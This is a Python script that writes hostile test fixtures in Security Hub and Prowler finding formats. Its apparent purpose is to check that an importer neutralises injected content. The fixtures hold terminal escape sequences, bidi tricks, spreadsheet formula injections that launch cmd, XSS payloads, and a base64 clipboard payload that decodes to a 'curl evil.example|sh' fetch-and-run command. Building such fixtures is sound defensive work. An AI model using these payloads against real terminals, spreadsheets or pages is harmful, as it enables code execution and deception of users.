#!/usr/bin/env python3
"""Writes Tests/Fixtures/hostile/: findings in real import formats (a Security Hub
get-findings response and a Prowler JSON-OCSF file) whose titles, descriptions, rule ids,
resource ids and remediation carry terminal and spreadsheet attacks.

Deterministic: running it again rewrites the same bytes. JSON escapes (\\u001b, ...) carry
the control characters, as real tools write them; the readers decode them to the raw
characters the outputs must neutralise.
"""
import json
import os

HOSTILE = {
    "osc0": "\x1b]0;pwned-title\x07",
    "osc2": "\x1b]2;pwned\x1b\\",
    "osc8": "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "osc52": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",
    "csi": "\x1b[2J\x1b[H\x1b[31mred\x1b[0m\x1b[?1049h",
    "c1": "\u009b31m\u009d0;c1-title\u009c\u0085\u0080",
    "dcs": "\x1bP+q544e\x1b\\\u0090q\u009c",
    "bidi": "\u202egnp.exe\u202c \u202a\u202b\u202d \u200e\u200f\u061c",
    "isolates": "\u2066left\u2069 \u2067right\u2069 \u2068first\u2069 \u2028\u2029",
    "nul": "before\u0000after",
    "del": "rub\u007fout",
    "zero-width": "zero\u200bwidth\u200c\u200djoin\ufeff\u2060",
    "long": "L" * 10000,
    "combining": "e" + "\u0301" * 2000,
    "formula-eq": "=HYPERLINK(\"https://evil.example/\",\"x\")",
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-cr": "\r=1+1",
    "formula-lf": "\n=1+1",
    "formula-space": "   =1+1",
    "formula-nbsp": "\u00a0=1+1",
    "formula-fullwidth": "\uff1d1+1",
    "formula-fullwidth-plus": "\uff0b1+1",
    "formula-fullwidth-minus": "\uff0d1+1",
    "formula-fullwidth-at": "\uff20SUM(1)",
    "html": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "md-link": "[click](javascript:alert(1)) ![t](http://track.example/p.gif)",
}

ACCOUNT = "123456789012"
REGION = "eu-west-1"
FUNCTION_ARN = f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:hostile-fn"


def asff(i, name, text):
    return {
        "SchemaVersion": "2018-10-08",
        "Id": f"arn:aws:securityhub:{REGION}:{ACCOUNT}:hostile/{i}/{name}",
        "ProductArn": f"arn:aws:securityhub:{REGION}::product/aws/securityhub",
        "GeneratorId": f"hostile-{name}-{text[:40]}",
        "AwsAccountId": ACCOUNT,
        "Types": ["Software and Configuration Checks/AWS Security Best Practices"],
        "CreatedAt": "2026-11-01T00:00:00.000Z",
        "UpdatedAt": "2026-11-02T00:00:00.000Z",
        "Severity": {"Label": "HIGH"},
        "Title": f"{name} {text}",
        "Description": f"{text} description {name}",
        "Remediation": {"Recommendation": {"Text": text, "Url": "javascript:alert(1)"}},
        "ProductFields": {"ControlId": f"Lambda.{i}{text[:20]}"},
        "Resources": [
            {
                "Type": "AwsLambdaFunction" if i % 2 == 0 else "Other",
                "Id": FUNCTION_ARN if i % 2 == 0 else f"resource-{name}-{text}",
                "Region": REGION,
            }
        ],
        "Compliance": {"Status": "FAILED"},
        "Workflow": {"Status": "NEW"},
        "RecordState": "ACTIVE",
    }


def ocsf(i, name, text):
    return {
        "message": f"{name}: {text}",
        "metadata": {"event_code": f"hostile_{name}_{text[:30]}", "product": {"name": "Prowler"}},
        "severity_id": 4,
        "severity": "High",
        "status_code": "FAIL",
        "status_detail": text,
        "status_id": 1,
        "finding_info": {
            "uid": f"prowler-hostile-{i}-{name}",
            "title": f"{text} {name}",
            "desc": f"description {text}",
        },
        "resources": [
            {
                "region": REGION,
                "name": f"name-{text}",
                "type": "Other",
                "uid": f"uid-{name}-{text}",
            }
        ],
        "cloud": {"account": {"uid": ACCOUNT}, "provider": "aws", "region": REGION},
        "remediation": {"desc": text, "references": [f"javascript:alert({i})", text]},
    }


def main():
    out = os.path.join(os.path.dirname(__file__), "..", "Tests", "Fixtures", "hostile")
    os.makedirs(out, exist_ok=True)
    items = list(HOSTILE.items())
    with open(os.path.join(out, "securityhub-hostile.asff.json"), "w", encoding="ascii") as f:
        json.dump({"Findings": [asff(i, n, t) for i, (n, t) in enumerate(items)]}, f, indent=1)
        f.write("\n")
    with open(os.path.join(out, "prowler-hostile.ocsf.json"), "w", encoding="ascii") as f:
        json.dump([ocsf(i, n, t) for i, (n, t) in enumerate(items)], f, indent=1)
        f.write("\n")


if __name__ == "__main__":
    main()
